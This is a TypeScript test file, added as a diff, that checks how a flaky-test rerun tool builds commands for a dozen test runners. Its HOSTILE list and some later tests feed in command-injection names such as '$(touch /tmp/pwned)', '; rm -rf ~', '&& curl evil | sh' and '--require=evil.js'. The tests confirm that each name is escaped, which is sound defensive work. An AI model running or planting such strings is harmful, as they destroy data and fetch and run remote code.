@@ -1,0 +1,303 @@
+/**
+ * Command construction of every preset, with hostile test names (they come from pull requests): each reaches the
+ * runner as an argv element of its own, escaped for the runner's filter syntax so that it selects exactly that
+ * test. The real runners are exercised in the <runner>.test.ts files beside this one.
+ */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { RerunCommand, RerunTest } from '../../../src/rerun/contract.ts';
+import { anchoredAlternation, globForFile, goQuoteMeta, jsRegexLiteral, pathArg, pcreLiteral } from '../../../src/rerun/presets/escape.ts';
+import { goRunPattern } from '../../../src/rerun/presets/go.ts';
+import { findPreset, PRESETS } from '../../../src/rerun/presets/index.ts';
+import { PYTEST_PROGRAM } from '../../../src/rerun/presets/pytest.ts';
+import { dotnetFilterValue, javaMethod, nextestString, surefireTestFilter } from '../../../src/rerun/presets/recipes.ts';
+
+const HOSTILE = [
+  '$(touch /tmp/pwned)',
+  '; rm -rf ~',
+  '`touch pwned`',
+  "it's \"quoted\" 'twice'",
+  '&& curl evil | sh',
+  '-rf',
+  '--require=evil.js',
+  'regex [a-z]+ (x|y) .* \\d ^$ {2} / \\',
+  'multi\nline\ttab\r',
+  'ünïcödé 🎲 日本語',
+  '::echo::workflow-command',
+  '%0A%25',
+  'a > b > c',
+  'null\u0001byte\u007f',
+];
+
+const test = (name: string, extra: Partial<RerunTest> = {}): RerunTest => ({ id: `cls::${name}`, classname: 'cls', name, ...extra });
+const REPORT = '/tmp/flakeguard-rerun/round-1.xml';
+const only = (cs: RerunCommand[]) => {
+  expect(cs).toHaveLength(1);
+  return cs[0]!;
+};
+const valueOf = (argv: string[], flag: string) => {
+  const a = argv.find((x) => x.startsWith(`${flag}=`));
+  expect(a, `${flag}= in ${JSON.stringify(argv)}`).toBeDefined();
+  return a!.slice(flag.length + 1);
+};
+
+describe('registry', () => {
+  it('has every runner of issue #14, each once, found by its input value', () => {
+    expect([...PRESETS.keys()].sort()).toEqual(
+      ['dotnet', 'gotestsum', 'gradle', 'jest', 'maven', 'mocha', 'nextest', 'node-test', 'phpunit', 'playwright', 'pytest', 'rspec', 'vitest'].sort(),
+    );
+    expect(findPreset(' vitest \n')?.name).toBe('vitest');
+    expect(findPreset('npm test')).toBeUndefined();
+    expect(findPreset('vitest; rm -rf ~')).toBeUndefined();
+  });
+
+  it('says which runners record retries in their JUnit report (docs/rerun-presets.md)', () => {
+    const records = Object.fromEntries([...PRESETS.values()].map((p) => [p.name, p.recordsRetries]));
+    expect(records).toEqual({
+      vitest: false,
+      jest: false,
+      mocha: false,
+      'node-test': false,
+      pytest: false,
+      gotestsum: true,
+      maven: true,
+      gradle: true,
+      rspec: false,
+      playwright: false,
+      dotnet: false,
+      phpunit: false,
+      nextest: true,
+    });
+  });
+
+  it('never lets a test name choose the program, and keeps every name out of option position', () => {
+    for (const preset of PRESETS.values()) {
+      const tests = HOSTILE.map((n) => test(n, { classname: n, file: n, suite: n }));
+      const commands = preset.commands(tests, REPORT, 1);
+      expect(commands.length).toBeGreaterThan(0);
+      for (const c of commands) {
+        expect(['npx', 'node', 'python3', 'gotestsum', 'mvn', './gradlew', 'bundle', 'dotnet', 'vendor/bin/phpunit', 'cargo', process.execPath]).toContain(c.argv[0]);
+        for (const a of c.argv) expect(typeof a).toBe('string');
+        // A name that looks like an option never stands alone where the runner reads options (a file argument
+        // gets `./` in front, a filter value is part of `--flag=value`).
+        for (const n of HOSTILE.filter((h) => h.startsWith('-'))) expect(c.argv.slice(1), preset.name).not.toContain(n);
+        expect(preset.commands(tests, REPORT, 1), 'pure').toEqual(commands);
+      }
+    }
+  });
+});
+
+describe('escaping', () => {
+  it('jsRegexLiteral matches exactly its text, with or without the u flag', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme' }), fc.string({ minLength: 1 }), (s, extra) => {
+        const re = new RegExp(`^${jsRegexLiteral(s)}$`);
+        const reU = new RegExp(`^${jsRegexLiteral(s)}$`, 'u');
+        expect(re.test(s)).toBe(true);
+        expect(reU.test(s)).toBe(true);
+        expect(re.test(s + extra)).toBe(false);
+        expect(re.test(extra + s)).toBe(false);
+      }),
+    );
+    // A space also matches the whitespace XML normalised to a space.
+    expect(new RegExp(`^${jsRegexLiteral('multi line')}$`).test('multi\nline')).toBe(true);
+    expect(jsRegexLiteral('a\nb')).toBe('a\\u000ab');
+  });
+
+  it('goQuoteMeta is regexp.QuoteMeta', () => {
+    expect(goQuoteMeta('a_[b]+_(c)|d_.*_ü$^{1}\\')).toBe('a_\\[b\\]\\+_\\(c\\)\\|d_\\.\\*_ü\\$\\^\\{1\\}\\\\');
+    fc.assert(
+      fc.property(fc.string({ unit: 'grapheme' }), (s) => {
+        // The escapes RE2 and JavaScript share: the quoted text matches itself only.
+        expect(new RegExp(`^${goQuoteMeta(s)}$`, 'u').test(s)).toBe(true);
+      }),
+    );
+  });
+
+  it('paths never start with a dash, and node globs match their file', () => {
+    expect(pathArg('-rf.test.js')).toBe('./-rf.test.js');
+    expect(pathArg('tests/a.test.js')).toBe('tests/a.test.js');
+    expect(globForFile('test/we[i]rd*{a,b}?.test.js')).toBe('test/we?i?rd??a?b??.test.js');
+    expect(globForFile('--x.test.js')).toBe('./--x.test.js');
+  });
+
+  it('pcreLiteral leaves no delimiter, data-set shorthand, quote or space', () => {
+    for (const n of HOSTILE) {
+      const p = pcreLiteral(n);
+      expect(p).not.toMatch(/[/#@'" `$();|&<>\n\t]/);
+      // PCRE and JavaScript read \xHH alike.
+      expect(new RegExp(`^${p}$`, 'u').test(n)).toBe(true);
+    }
+  });
+});
+
+/** The full name a JS runner's name filter sees, for tests of the given describe path and title. */
+describe('JS runners', () => {
+  it('vitest: files as filters, `describe > test` or `describe test` anchored, one report', () => {
+    const tests = HOSTILE.map((n) => test(`cart > ${n}`, { classname: 'tests/cart.test.ts' }));
+    const c = only(findPreset('vitest')!.commands([...tests, test('x', { classname: '-evil.test.ts:12' })], REPORT, 1));
+    expect(c.argv.slice(0, 5)).toEqual(['npx', '--no', '--', 'vitest', 'run']);
+    expect(c.argv).toContain('./tests/cart.test.ts');
+    // A leading dash is not an option, a trailing :12 not a line filter.
+    expect(c.argv).toContain('./-evil.test.ts');
+    expect(valueOf(c.argv, '--outputFile.junit')).toBe(REPORT);
+    const re = new RegExp(valueOf(c.argv, '--testNamePattern'));
+    for (const n of HOSTILE) {
+      expect(re.test(`cart ${n}`), n).toBe(true);
+      expect(re.test(`cart ${n} too`), n).toBe(false);
+      expect(re.test(`xcart ${n}`), n).toBe(false);
+    }
+    expect(re.test('x')).toBe(true);
+  });
+
+  it('jest: the full name, without jest-junit leading space, report path in the environment', () => {
+    const tests = [...HOSTILE.map((n) => test(`cart ${n}`, { classname: `cart ${n}` })), test(' top', { classname: ' top' })];
+    const c = only(findPreset('jest')!.commands(tests, REPORT, 1));
+    expect(c.env).toEqual({ JEST_JUNIT_OUTPUT_FILE: REPORT });
+    expect(c.argv).toEqual(expect.arrayContaining(['--reporters=jest-junit', '--ci']));
+    const re = new RegExp(valueOf(c.argv, '--testNamePattern'), 'i');
+    for (const n of HOSTILE) {
+      expect(re.test(`cart ${n}`), n).toBe(true);
+      expect(re.test(`cart ${n}!`), n).toBe(false);
+    }
+    expect(re.test('top')).toBe(true);
+    expect(re.test('stop')).toBe(false);
+    // Split templates: classname = describe blocks, name = title.
+    const split = only(findPreset('jest')!.commands([test('adds', { classname: 'cart' })], REPORT, 1));
+    expect(new RegExp(valueOf(split.argv, '--testNamePattern')).test('cart adds')).toBe(true);
+  });
+
+  it('mocha: the full title; files only from suites that have them; report path in MOCHA_FILE', () => {
+    const inSuite = HOSTILE.map((n) => test(`cart ${n}`, { classname: n, file: 'tests/cart.test.js', suite: 'cart' }));
+    const c = only(findPreset('mocha')!.commands(inSuite, REPORT, 1));
+    expect(c.env).toEqual({ MOCHA_FILE: REPORT });
+    expect(c.argv.at(-1)).toBe('tests/cart.test.js');
+    const re = new RegExp(valueOf(c.argv, '--grep'));
+    for (const n of HOSTILE) {
+      expect(re.test(`cart ${n}`), n).toBe(true);
+      expect(re.test(`cart ${n} again`), n).toBe(false);
+    }
+    const root = only(findPreset('mocha')!.commands([test('top', { classname: 'top', file: 'src/helper.js', suite: 'Root Suite' })], REPORT, 1));
+    expect(root.argv.some((a) => a.endsWith('.js'))).toBe(false);
+    // A file starting with a dash is not an option.
+    const dash = only(findPreset('mocha')!.commands([test('t', { file: '--require=evil.js', suite: 's' })], REPORT, 1));
+    expect(dash.argv.at(-1)).toBe('./--require=evil.js');
+  });
+
+  it('node-test: ancestors and name joined by spaces, and the parent; `&quot;` as node writes it; files as globs', () => {
+    const tests = HOSTILE.map((n) => test(n, { classname: 'cart.inner', file: 'tests/we[i]rd.test.js' }));
+    const c = only(findPreset('node-test')!.commands([...tests, test('top', { classname: 'test', file: '-x.test.js' })], REPORT, 1));
+    expect(c.argv.slice(0, 2)).toEqual(['node', '--test']);
+    expect(c.argv).toContain(`--test-reporter-destination=${REPORT}`);
+    expect(c.argv.slice(-2)).toEqual(['tests/we?i?rd.test.js', './-x.test.js']);
+    const re = new RegExp(valueOf(c.argv, '--test-name-pattern'));
+    for (const n of HOSTILE) {
+      expect(re.test(`cart inner ${n}`), n).toBe(true);
+      expect(re.test(n), n).toBe(false);
+    }
+    // The parent (a describe, or a test whose subtests these are) is matched too: node runs a subtest only then.
+    expect(re.test('cart inner')).toBe(true);
+    expect(re.test('cart')).toBe(false);
+    expect(re.test('top')).toBe(true);
+    expect(re.test('test top')).toBe(true);
+    expect(re.test('test')).toBe(false);
+    const quoted = only(findPreset('node-test')!.commands([test('say &quot;hi&quot;', { classname: 'test' })], REPORT, 1));
+    expect(new RegExp(valueOf(quoted.argv, '--test-name-pattern')).test('say "hi"')).toBe(true);
+  });
+
+  it('anchoredAlternation deduplicates', () => {
+    expect(anchoredAlternation(['a', 'a'])).toBe('^a$');
+    expect(anchoredAlternation(['a', 'b', 'a'])).toBe('^(?:a|b)$');
+  });
+});
+
+describe('pytest', () => {
+  it('passes the tests as JSON data to a fixed program, never as code or node ids', () => {
+    const tests = HOSTILE.map((n) => test(`test_x[${n}]`, { classname: 'tests.test_api.TestX', file: n }));
+    const c = only(findPreset('pytest')!.commands(tests, REPORT, 1));
+    expect(c.argv.slice(0, 3)).toEqual(['python3', '-c', PYTEST_PROGRAM]);
+    expect(c.argv).toHaveLength(5);
+    expect(JSON.parse(c.argv[3]!)).toEqual(tests.map((t) => [t.classname, t.name, t.file]));
+    expect(c.argv[4]).toBe(REPORT);
+    for (const n of HOSTILE) expect(PYTEST_PROGRAM).not.toContain(n);
+  });
+});
+
+describe('go', () => {
+  it('one QuoteMeta-ed, anchored regexp per level; parents of selected subtests left out', () => {
+    expect(goRunPattern(['TestA'])).toBe('^TestA$');
+    expect(goRunPattern(['TestHostile', 'TestHostile/$(touch_/tmp/pwned)', 'TestB'])).toBe('^TestHostile$/^\\$\\(touch_$/^tmp$/^pwned\\)$|^TestB$');
+    expect(goRunPattern(['TestX/a_[b]+_(c)|d'])).toBe('^TestX$/^a_\\[b\\]\\+_\\(c\\)\\|d$');
+  });
+
+  it('gotestsum with the packages of the tests; a package path that could be an option runs ./... instead', () => {
+    const c = only(findPreset('gotestsum')!.commands([test('TestA', { classname: 'example.com/m/pkg' })], REPORT, 1));
+    expect(c.argv).toEqual(['gotestsum', `--junitfile=${REPORT}`, '--format=standard-verbose', '--', '-count=1', '-run=^TestA$', 'example.com/m/pkg']);
+    for (const bad of ['-exec=sh', 'a b', '../x', 'x;y', '']) {
+      const b = only(findPreset('gotestsum')!.commands([test('TestA', { classname: bad })], REPORT, 1));
+      expect(b.argv.at(-1)).toBe('./...');
+    }
+  });
+});
+
+describe('recipes (not runnable here: unit-tested construction only)', () => {
+  it('maven: -Dtest Class#m1+m2; a class or method that is not Java runs more, never fewer', () => {
+    expect(javaMethod('placesOrder(String)[1]')).toBe('placesOrder');
+    expect(javaMethod('a display name')).toBeUndefined();
+    expect(javaMethod('$(touch /tmp/pwned)')).toBeUndefined();
+    expect(javaMethod('adds(int, String[])')).toBe('adds');
+    expect(
+      surefireTestFilter([
+        test('placesOrder', { classname: 'com.ex.OrderTest' }),
+        test('cancels[2]', { classname: 'com.ex.OrderTest' }),
+        test('$(touch /tmp/pwned)', { classname: 'com.ex.Other$Nested' }),
+      ]),
+    ).toBe('com.ex.OrderTest#placesOrder+cancels,com.ex.Other$Nested');
+    expect(surefireTestFilter([test('t', { classname: 'a,b#c' })])).toBeUndefined();
+    const cs = findPreset('maven')!.commands([test('placesOrder', { classname: 'com.ex.OrderTest' })], REPORT, 1);
+    expect(cs.map((c) => c.argv[0])).toEqual([process.execPath, 'mvn', process.execPath]);
+    expect(cs[1]!.argv).toContain('-Dtest=com.ex.OrderTest#placesOrder');
+    expect(cs[2]!.argv.slice(-2)).toEqual([REPORT, '**/target/surefire-reports']);
+    const all = findPreset('maven')!.commands([test('t', { classname: '-Dmaven.repo.local=/x' })], REPORT, 1);
+    expect(all[1]!.argv.some((a) => a.startsWith('-Dtest='))).toBe(false);
+  });
+
+  it('gradle: --tests Class.method as separate arguments', () => {
+    const cs = findPreset('gradle')!.commands([test('placesOrder()', { classname: 'com.ex.OrderTest' }), test('a b', { classname: 'com.ex.T' })], REPORT, 1);
+    expect(cs[1]!.argv).toEqual(['./gradlew', 'test', '--rerun', '--tests', 'com.ex.OrderTest.placesOrder', '--tests', 'com.ex.T', '--continue']);
+  });
+
+  it('rspec: --example=<description> per test, files from the report', () => {
+    const c = only(findPreset('rspec')!.commands([test('-e x', { file: './spec/a_spec.rb' }), test('$(x)', { file: './spec/a_spec.rb' })], REPORT, 1));
+    expect(c.argv).toEqual(['bundle', 'exec', 'rspec', '--format=progress', '--format=RspecJunitFormatter', `--out=${REPORT}`, '--example=-e x', '--example=$(x)', './spec/a_spec.rb']);
+  });
+
+  it('playwright: file and titles anchored in --grep, files escaped as regexps', () => {
+    const c = only(findPreset('playwright')!.commands([test('cart › adds (1)', { classname: 'tests/cart.spec.ts' })], REPORT, 1));
+    expect(c.env).toEqual({ PLAYWRIGHT_JUNIT_OUTPUT_FILE: REPORT });
+    const re = new RegExp(valueOf(c.argv, '--grep'));
+    expect(re.test('chromium tests/cart.spec.ts cart adds (1)')).toBe(true);
+    expect(re.test('chromium tests/cart.spec.ts cart adds (1) @slow')).toBe(true);
+    expect(re.test('chromium tests/cart.spec.ts cart adds (1) again')).toBe(false);
+    expect(c.argv.at(-1)).toBe('tests\\/cart\\.spec\\.ts$');
+  });
+
+  it('dotnet: FullyQualifiedName filter with the filter syntax escaped', () => {
+    expect(dotnetFilterValue('A(b)|c&d=e!f~g,h\\')).toBe('A\\(b\\)\\|c\\&d\\=e\\!f\\~g\\,h\\\\');
+    const cs = findPreset('dotnet')!.commands([test('Adds(a: 1)', { classname: 'Shop.Tests.PriceTests' })], REPORT, 1);
+    expect(cs[1]!.argv).toEqual(['dotnet', 'test', '--filter=FullyQualifiedName=Shop.Tests.PriceTests.Adds', `--logger=junit;LogFilePath=${REPORT}.d/{assembly}-{framework}.xml`]);
+  });
+
+  it('phpunit: class::name as an escaped PCRE', () => {
+    const c = only(findPreset('phpunit')!.commands([test('testFoo with data set "a/b#1@x"', { classname: 'App.FooTest' })], REPORT, 1));
+    const filter = valueOf(c.argv, '--filter');
+    expect(filter).not.toMatch(/[/#@"]/);
+    expect(new RegExp(filter).test('App\\FooTest::testFoo with data set "a/b#1@x"')).toBe(true);
+  });
+
+  it('nextest: binary_id and test matched exactly, matcher syntax escaped', () => {
+    expect(nextestString('a(b),c\\')).toBe('a\\(b\\)\\,c\\\\');
+    const cs = findPreset('nextest')!.commands([test('tests::parses', { classname: 'my-crate' })], REPORT, 1);
+    expect(cs[1]!.argv).toEqual(['cargo', 'nextest', 'run', '--profile=ci', '--no-fail-fast', '--retries=0', '-E', '(binary_id(=my-crate) & test(=tests::parses))']);
+  });
+});
